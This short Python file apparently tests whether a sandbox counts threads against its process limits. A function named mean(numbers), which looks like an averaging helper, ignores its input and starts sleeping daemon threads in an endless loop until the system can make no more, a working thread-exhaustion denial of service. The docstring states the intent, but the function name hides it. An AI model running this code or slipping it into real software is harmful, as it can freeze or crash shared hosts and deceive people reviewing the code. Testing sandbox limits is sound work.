"""Starts threads until no more can be had, and keeps them.

Must happen: threads are counted as processes are.
"""


# %% mean
def mean(numbers):
    import threading
    import time

    started = 0
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        started += 1
